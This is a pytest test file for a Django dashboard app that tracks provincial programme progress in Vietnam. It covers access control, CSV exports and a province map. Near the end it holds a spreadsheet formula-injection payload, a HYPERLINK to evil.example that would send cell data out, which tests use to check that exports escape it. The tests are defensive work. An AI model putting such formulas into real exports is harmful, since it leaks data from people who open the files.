"""Dashboards: programme progress, unit overview, province map and who is behind."""

import csv
import io

import pytest
from django.contrib.auth.models import User

from lotrinh.access.models import Membership, Role
from lotrinh.orgunits.models import OrgUnit, Structure

pytestmark = pytest.mark.django_db


@pytest.fixture
def gia_lai_viewer(client):
    user = User.objects.create_user("lanh_dao", password="x")
    Membership.objects.create(
        user=user,
        org_unit=OrgUnit.objects.get(structure=Structure.CURRENT, code="52"),
        role=Role.VIEWER,
    )
    client.force_login(user)
    return client


def rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_merged_province_sees_its_predecessors_programme_progress(gia_lai_viewer):
    page = gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/").content.decode()
    assert 'data-chart="status-bars"' in page and page.count('class="target-card"') == 37
    assert "vendor/echarts/echarts.min.js" in page


def test_another_province_may_not_see_it(client):
    user = User.objects.create_user("khac", password="x")
    Membership.objects.create(
        user=user,
        org_unit=OrgUnit.objects.get(structure=Structure.CURRENT, code="24"),
        role=Role.VIEWER,
    )
    client.force_login(user)
    assert client.get("/programmes/binh-dinh-05-nq-tu/progress/").status_code == 403


def test_anonymous_visitors_are_asked_to_log_in(client):
    response = client.get("/programmes/binh-dinh-05-nq-tu/progress/")
    assert response.status_code == 302 and "login" in response["Location"]


def test_filters_narrow_the_cards(gia_lai_viewer):
    page = gia_lai_viewer.get(
        "/programmes/binh-dinh-05-nq-tu/progress/", {"pillar": "economy", "year": "2030"}
    )
    assert 0 < page.content.decode().count('class="target-card"') < 37


def test_the_progress_csv_has_every_figure_behind_each_status(gia_lai_viewer):
    table = rows(gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", {"format": "csv"}))
    assert table[0][:6] == ["indicator", "pillar", "level", "year", "target", "status"]
    assert len(table) == 38 and "ratio" in table[0] and "method_version" in table[0]


def test_the_unit_overview_shows_completeness_and_a_league_table(gia_lai_viewer):
    page = gia_lai_viewer.get("/units/2025/52/overview/").content.decode()
    assert 'id="completeness"' in page and 'id="league"' in page and 'data-chart="dots"' in page
    table = rows(gia_lai_viewer.get("/units/2025/52/overview/", {"format": "csv"}))
    assert (
        table[0] == ["unit", "code", "expected", "submitted", "rate", "files_online_pct"]
        and len(table) > 50
    )


def test_the_province_map_has_one_tile_per_province_in_each_structure(client):
    for structure, count in (("2025", 34), ("legacy", 63)):
        table = rows(
            client.get(
                "/indicators/ho-so-cong-viec-truc-tuyen/map/",
                {"structure": structure, "format": "csv"},
            )
        )
        assert len(table) == count + 1
        assert any(row[2] for row in table[1:])  # Bình Định / Gia Lai have data


def test_who_is_behind_lists_targets_at_risk_and_late_units(gia_lai_viewer):
    page = gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/")  # computes assessments
    assert page.status_code == 200
    behind = gia_lai_viewer.get("/behind/").content.decode()
    assert 'id="at-risk"' in behind and 'class="status ' in behind
    assert "Xã" in behind or "Phường" in behind  # late communes of Gia Lai


def test_the_province_map_finds_reported_figures_through_the_reports():
    """A province whose only figures are reported (none published) still gets its latest value;
    a province with no approved reports gets none."""
    from lotrinh.dashboards.data import province_map
    from lotrinh.indicators.models import Indicator

    indicator = Indicator.objects.get(code="ho-so-cong-viec-truc-tuyen")
    indicator.observations.all().delete()
    tiles = {t["code"]: t["value"] for t in province_map(indicator, "2025")["tiles"]}
    assert tiles["52"] is not None  # Gia Lai: the illustrative communes' approved reports
    assert tiles["01"] is None  # Hà Nội reports nothing in the sample data


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'


def test_a_formula_in_an_indicator_name_is_exported_as_text_in_the_progress_csv(gia_lai_viewer):
    from lotrinh.indicators.models import Target

    target = Target.objects.filter(programme__code="binh-dinh-05-nq-tu").first()
    Target.objects.filter(pk=target.pk).update(indicator_name=HOSTILE_NAME)
    table = rows(gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", {"format": "csv"}))
    names = [row[0] for row in table[1:]]
    assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names


def test_a_formula_in_a_province_name_is_exported_as_text_in_the_map_csv(client):
    OrgUnit.objects.filter(structure=Structure.CURRENT, code="52").update(short_name=HOSTILE_NAME)
    table = rows(client.get("/indicators/ho-so-cong-viec-truc-tuyen/map/", {"format": "csv"}))
    assert next(row[:2] for row in table if row[0] == "52") == ["52", "'" + HOSTILE_NAME]
